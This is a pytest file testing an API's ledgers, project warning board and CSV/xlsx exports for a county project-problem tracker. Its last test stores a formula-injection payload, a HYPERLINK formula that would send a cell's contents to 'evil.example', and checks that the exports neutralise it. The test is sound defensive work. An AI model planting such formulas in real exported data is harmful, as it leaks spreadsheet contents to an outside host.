"""The ledgers and the board over HTTP, on the spring built by hand in
`tests.projections.hand_built`: the figures, scoping, pages and exported files."""

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from uuid import uuid4

import openpyxl
import pytest

from api.demo.clock import Clock, stamping
from api.exports import TITLE_ROWS
from api.http.app import create_app
from api.http.services import KEY, Services
from api.settings import Settings
from domain.commands.officer import RegisterOfficer
from domain.model.officer import Role
from tests.api import bodies
from tests.api.conftest import SECRET, Api, Caller
from tests.factories import meta
from tests.projections.hand_built import LAND, POWER, Spring, at, build

APRIL = "2026-04-30T23:59:59.999999%2B08:00"
MID_APRIL = "2026-04-18T23:59:59.999999%2B08:00"


def a_caller(services: Services, client: Any, jurisdiction: str) -> Caller:
    officer_id, username = uuid4(), f"supervisor.{jurisdiction}"
    services.ledger.execute(
        RegisterOfficer(
            officer_id=officer_id,
            username=username,
            name="督查员",
            jurisdiction=jurisdiction,
            roles=(Role.SUPERVISOR,),
        ),
        meta(),
    )
    token, _ = services.tokens.issue(officer_id, username)
    return Caller(client, token, officer_id)


@pytest.fixture(scope="module")
def spring_api(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Spring, Caller, Caller]]:
    """The spring in an app of its own; a supervisor at home and one next door."""
    with spring_app(tmp_path_factory.mktemp("ledgers")) as found:
        yield found


@contextmanager
def spring_app(
    folder: Path, **settings: Any
) -> Iterator[tuple[Spring, Caller, Caller]]:
    url = f"sqlite:///{folder}/events.sqlite3"
    app = create_app(Settings(database_url=url, jwt_secret=SECRET, **settings))
    services: Services = app.extensions[KEY]
    try:
        with stamping(Clock(at(1, 1))) as clock:
            built = build(services.ledger, clock)
        home = a_caller(services, app.test_client(), "610502")
        away = a_caller(services, app.test_client(), "610503")
        services.views.catch_up(services.ledger)
        yield built, home, away
    finally:
        services.close()


def get(caller: Caller, path: str, status: int = 200) -> Any:
    response = caller.get(path)
    assert response.status_code == status, response.get_json()
    return response


def test_the_summary_gives_the_figures_worked_out_by_hand(spring_api: Any) -> None:
    _, home, _ = spring_api
    body = get(home, f"/ledgers/issues/summary?group_by=jurisdiction&as_of={APRIL}")
    (row,) = body.json["groups"]
    assert row["group"] == "610502"
    assert (row["received"], row["resolved"], row["resolved_on_time"]) == (7, 2, 1)
    assert (row["on_time_rate"], row["satisfaction_rate"]) == (0.5, 1.0)
    assert (row["open"], row["overdue"], row["mean_days_to_close"]) == (5, 1, 7.5)


def test_the_ledger_lists_what_was_overdue_on_the_day_asked(spring_api: Any) -> None:
    built, home, _ = spring_api
    body = get(home, f"/ledgers/issues?overdue=true&as_of={MID_APRIL}").json
    assert [row["id"] for row in body["items"]] == [str(built.problems["G"])]
    assert body["items"][0]["days_overdue"] == 3
    assert body["items"][0]["project_name"]


def test_overdue_or_not_splits_the_ledger_with_no_problem_left_out(
    spring_api: Any,
) -> None:
    built, home, _ = spring_api
    split = [
        [row["id"] for row in get(home, f"{path}&as_of={APRIL}").json["items"]]
        for path in ("/ledgers/issues?overdue=true", "/ledgers/issues?overdue=false")
    ]
    every = [
        row["id"] for row in get(home, f"/ledgers/issues?as_of={APRIL}").json["items"]
    ]
    assert sorted(split[0] + split[1]) == sorted(every)
    assert str(built.problems["F"]) in split[1]  # open, never given a deadline


def test_a_withdrawn_duplicate_stops_ageing_when_withdrawn(spring_api: Any) -> None:
    built, home, _ = spring_api
    late = "2026-11-30T12:00:00%2B08:00"
    items = get(home, f"/ledgers/issues?as_of={late}").json["items"]
    row = next(row for row in items if row["id"] == str(built.problems["E"]))
    assert (row["status"], row["days_open"]) == ("withdrawn", 0)  # withdrawn in an hour


def test_the_ledger_counts_long_overdue_as_the_board_does_by_the_setting(
    tmp_path: Path,
) -> None:
    """On 04-18, G is three days past its deadline: long overdue past two days."""
    with spring_app(tmp_path, warn_red_overdue_days=2) as (built, home, _):
        summary = f"/ledgers/issues/summary?group_by=jurisdiction&as_of={MID_APRIL}"
        (row,) = get(home, summary).json["groups"]
        ranking = f"/board/departments?as_of={MID_APRIL}"
        departments = get(home, ranking).json["departments"]
        board = get(home, f"/board/projects?as_of={MID_APRIL}").json["items"]
        p1 = next(item for item in board if item["id"] == str(built.p1))
    assert row["overdue_long"] == 1
    assert sum(department["overdue_long"] for department in departments) == 1
    assert {"code": "problems_long_overdue", "colour": "red", "value": 1} in p1[
        "reasons"
    ]


def test_the_ledger_pages_by_cursor_through_every_problem(spring_api: Any) -> None:
    built, home, _ = spring_api
    seen, cursor = [], ""
    for _ in range(10):
        body = get(home, f"/ledgers/issues?limit=3{cursor}").json
        seen += [row["id"] for row in body["items"]]
        if body["next_cursor"] is None:
            break
        cursor = f"&cursor={body['next_cursor']}"
    assert sorted(seen) == sorted(str(i) for i in built.problems.values())


def test_a_neighbouring_county_sees_none_of_it(spring_api: Any) -> None:
    _, _, away = spring_api
    body = get(away, "/ledgers/issues/summary?group_by=department").json
    assert body["groups"] == []
    assert get(away, "/board/projects").json["items"] == []
    get(away, "/ledgers/issues?jurisdiction=610502", status=404)


def test_the_board_gives_each_project_its_colour_and_reasons(spring_api: Any) -> None:
    built, home, _ = spring_api
    items = get(home, f"/board/projects?as_of={APRIL}").json["items"]
    found = {row["id"]: row for row in items}
    p1 = found[str(built.p1)]
    assert p1["warning"] == "red"
    assert p1["reasons"] == [
        {"code": "problems_long_overdue", "colour": "red", "value": 1}
    ]
    assert (p1["open_problems"], p1["overdue_problems"]) == (4, 1)
    assert p1["completed_share"] == "0.1778"
    assert found[str(built.p3)]["warning"] == "blue"
    assert found[str(built.p3)]["last_visit_at"].startswith("2026-04-20T02:00")
    reds = get(home, f"/board/projects?warning=red&as_of={APRIL}").json["items"]
    assert {row["id"] for row in reds} == {str(built.p1), str(built.p2)}


def test_departments_are_ranked_by_score_charging_open_overdue(
    spring_api: Any,
) -> None:
    _, home, _ = spring_api
    body = get(home, "/board/departments?as_of=2026-05-31T23:59%2B08:00").json
    ranked = [(row["rank"], row["group"], row["score"]) for row in body["departments"]]
    assert ranked == [(1, POWER, 38.33), (2, LAND, 23.33)]


def test_the_quarterly_lists_blacklist_the_red_projects(spring_api: Any) -> None:
    built, home, _ = spring_api
    body = get(home, "/board/lists?year=2026&quarter=2").json
    assert body["as_of"].startswith("2026-06-30T23:59:59")
    assert {row["id"] for row in body["black"]} >= {str(built.p1), str(built.p2)}
    assert body["red"] == []


def test_the_quarterly_lists_are_one_table_as_a_file(spring_api: Any) -> None:
    _, home, _ = spring_api
    body = get(home, "/board/lists?year=2026&quarter=2").json
    response = get(home, "/board/lists?year=2026&quarter=2&format=csv&lang=en")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["List", "No.", "Code"]
    named = {"red": "Red list (commended)", "yellow": "Yellow list"}
    named |= {"black": "Black list"}
    assert sorted(row[0] for row in rows[1:]) == sorted(
        named[kind] for kind in ("red", "yellow", "black") for _ in body[kind]
    )
    book = sheet(get(home, "/board/lists?year=2026&quarter=2&format=xlsx"))
    assert book[0][0] == "榜单"
    assert {row[0] for row in book[1:]} == {"黑榜"} | (
        {"黄榜"} if body["yellow"] else set()
    )


def sheet(response: Any) -> list[tuple[Any, ...]]:
    """The table of an exported sheet, from its headings (below the title rows)."""
    book = openpyxl.load_workbook(io.BytesIO(response.data), read_only=True)
    return list(book.worksheets[0].iter_rows(values_only=True))[TITLE_ROWS:]


def test_the_xlsx_summary_holds_the_api_figures_under_chinese_headings(
    spring_api: Any,
) -> None:
    _, home, _ = spring_api
    query = f"/ledgers/issues/summary?group_by=department&as_of={APRIL}"
    figures = get(home, query).json["groups"]
    response = get(home, f"{query}&format=xlsx&lang=zh")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    rows = sheet(response)
    assert rows[0][:5] == ("责任单位", "受理数", "办结数", "按期办结数", "按期办结率")
    by_department = {row[0] or "": row for row in rows[1:]}
    for group in figures:
        cells = by_department[group["group"]]
        assert cells[1:4] == (
            group["received"],
            group["resolved"],
            group["resolved_on_time"],
        )
        assert cells[4] == group["on_time_rate"]
        assert cells[9] == group["satisfaction_rate"]


def test_the_xlsx_board_names_colours_and_reasons_in_chinese(spring_api: Any) -> None:
    built, home, _ = spring_api
    rows = sheet(get(home, f"/board/projects?format=xlsx&lang=zh&as_of={APRIL}"))
    by_name = {row[2]: row for row in rows[1:]}
    items = get(home, f"/board/projects?as_of={APRIL}").json["items"]
    p2 = next(row for row in items if row["id"] == str(built.p2))
    assert by_name[p2["name"]][-2:] == ("红色预警", "开工滞后119天")


def test_the_csv_ledger_is_headed_in_english_with_english_categories(
    spring_api: Any,
) -> None:
    _, home, _ = spring_api
    response = get(home, "/ledgers/issues?format=csv&lang=en")
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["No.", "Problem", "Project"]
    assert len(rows) == 1 + 8
    category = rows[0].index("Category")
    assert {row[category] for row in rows[1:]} == {"Power and utilities"}


def test_the_disclosure_table_shows_this_years_plan_and_share(spring_api: Any) -> None:
    _built, home, _ = spring_api
    items = get(home, f"/board/disclosure?as_of={APRIL}").json["items"]
    assert len(items) == 4
    p3 = next(row for row in items if row["planned_this_year"] == "1000")
    assert (p3["completed_this_year"], p3["completed_share"]) == ("400", "0.4000")
    assert (p3["start_year"], p3["end_year"]) == (2026, 2027)
    rows = sheet(get(home, f"/board/disclosure?format=xlsx&lang=en&as_of={APRIL}"))
    assert rows[0][0] == "Project"
    assert len(rows) == 5


def test_the_visit_ledger_and_who_was_not_visited(spring_api: Any) -> None:
    built, home, _ = spring_api
    visits = get(home, "/ledgers/visits").json["items"]
    assert [row["project_id"] for row in visits] == [str(built.p3)]
    summary = get(home, "/ledgers/visits/summary?group_by=officer").json["groups"]
    assert [(row["group"], row["finished"]) for row in summary] == [
        (str(built.county.officer_id), 1)
    ]
    april = "2026-04-30T12:00%2B08:00"
    unvisited = get(home, f"/ledgers/visits/unvisited?kind=project&as_of={april}")
    ids = {row["id"] for row in unvisited.json["items"]}
    assert str(built.p3) not in ids
    assert str(built.p1) in ids
    query = f"kind=project&as_of={april}&format=xlsx"
    book = sheet(get(home, f"/ledgers/visits/unvisited?{query}"))
    assert book[0] == ("名称", "类别", "区划", "区划名称")
    names = sorted(row["name"] for row in unvisited.json["items"])
    assert sorted(row[0] for row in book[1:]) == names
    assert {row[1] for row in book[1:]} == {"项目"}


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("kind=service&status=finished&month_from=2026-04&month_to=2026-04", 1),
        ("month_from=2026-05", 0),
        ("kind=inspection", 0),
    ],
)
def test_visits_filter_by_kind_status_and_month(
    spring_api: Any, query: str, count: int
) -> None:
    built, home, _ = spring_api
    officer = built.county.officer_id
    items = get(home, f"/ledgers/visits?officer_id={officer}&{query}").json["items"]
    assert len(items) == count


@pytest.mark.parametrize(
    ("query", "groups"),
    [
        ("group_by=month&month_from=2026-04&month_to=2026-04", ["2026-04"]),
        ("group_by=category&source=hotline_12345", ["power_utilities"]),
        ("group_by=department&status=closed", [POWER, LAND]),
        ("group_by=month&month_to=2026-03", []),
    ],
)
def test_summaries_group_and_filter(
    spring_api: Any, query: str, groups: list[str]
) -> None:
    _, home, _ = spring_api
    body = get(home, f"/ledgers/issues/summary?{query}").json
    assert sorted(row["group"] for row in body["groups"]) == sorted(groups)


@pytest.mark.parametrize(
    ("path", "unknown"),
    [
        ("/ledgers/issues?dept=县供电公司", "dept"),
        ("/board/departments?department=县供电公司", "department"),
        ("/board/lists?year=2026&quarter=1&as_of=2026-03-31T12:00Z", "as_of"),
        ("/issues?project=x", "project"),
    ],
)
def test_a_query_parameter_the_route_does_not_take_is_refused_naming_it(
    spring_api: Any, path: str, unknown: str
) -> None:
    """A misspelt filter would otherwise answer everything, unfiltered."""
    _, home, _ = spring_api
    response = get(home, path, status=422)
    assert response.mimetype == "application/problem+json"
    assert response.json["errors"] == {"query": {unknown: ["Unknown field."]}}


def test_the_board_filters_by_stage_and_jurisdiction(spring_api: Any) -> None:
    built, home, _ = spring_api
    query = "stage=under_construction&level=county&jurisdiction=610502"
    items = get(home, f"/board/projects?{query}").json["items"]
    assert {row["id"] for row in items} == {str(built.p1), str(built.p3)}


@pytest.mark.parametrize(
    "path",
    [
        "/ledgers/issues/summary?group_by=severity",
        "/ledgers/issues?month_from=2026-13",
        "/board/projects?warning=green",
        "/ledgers/issues?format=pdf",
        "/board/lists?year=2026&quarter=5",
        *(
            f"{route}{'&' if '?' in route else '?'}as_of={moment}"
            for route in (
                "/ledgers/issues",
                "/ledgers/issues/summary?group_by=department",
                "/ledgers/visits",
                "/ledgers/visits/summary?group_by=officer",
                "/ledgers/visits/unvisited",
                "/board/projects",
                "/board/departments",
                "/board/disclosure",
            )
            # days before or after these step past what a date can hold
            for moment in ("0001-01-01T05:00%2B08:00", "9999-12-31T23:00Z")
        ),
    ],
)
def test_arguments_out_of_bounds_are_422(spring_api: Any, path: str) -> None:
    _, home, _ = spring_api
    get(home, path, status=422)


def test_a_description_that_reads_like_a_formula_is_exported_as_text(
    fresh_api: Api,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
    raised = fresh_api.as_("officer").post(
        "/issues", bodies.an_issue(fresh_api.home) | {"description": formula}
    )
    assert raised.status_code == 201
    fresh_api.catch_up()
    supervisor = fresh_api.as_("supervisor")
    book = openpyxl.load_workbook(
        io.BytesIO(get(supervisor, "/ledgers/issues?format=xlsx").data)
    )
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    written = next(cell for cell in cells if cell.value == formula)
    assert written.data_type == "s"  # shown as written, never evaluated
    text = get(supervisor, "/ledgers/issues?format=csv").data.decode("utf-8-sig")
    found = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
    assert "'" + formula in found
    assert formula not in found
